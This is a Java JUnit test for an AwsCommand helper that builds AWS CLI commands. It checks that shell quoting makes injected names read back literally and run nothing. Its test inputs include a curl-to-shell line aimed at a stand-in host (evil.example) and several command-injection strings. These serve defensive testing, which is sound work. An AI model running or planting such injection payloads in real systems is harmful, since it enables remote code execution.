package dev.tocsin.chain.verdict;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AwsCommandTest {

  @TempDir private Path folder;

  @Test
  void plainNamesStandAsTheyAreAndTheRegionIsNamed() {
    assertThat(AwsCommand.run("eu-west-1", "cloudtrail", "start-logging", "--name", "main-trail"))
        .isEqualTo("run `aws cloudtrail start-logging --name main-trail --region eu-west-1`");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x; curl evil.example|sh #",
        "x'; touch PWNED; echo '",
        "CloudTrail changed (prod)",
        "$(touch PWNED)",
        "`touch PWNED`",
        "a\ntouch PWNED\n#",
        "\"; touch PWNED; \"",
        "~",
        "*",
        "",
        "-"
      })
  void shellReadsBackTheNameAndRunsNothing(String name) throws Exception {
    assertThat(shell("printf '%s' " + AwsCommand.quoted(name))).isEqualTo(name);
    assertThat(folder.resolve("PWNED")).doesNotExist();
  }

  private String shell(String command) throws IOException, InterruptedException {
    Path script = Files.writeString(folder.resolve("script.sh"), command);
    Process process =
        new ProcessBuilder("sh", script.toString())
            .directory(folder.toFile())
            .redirectErrorStream(true)
            .start();
    String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    process.waitFor();
    return output;
  }
}
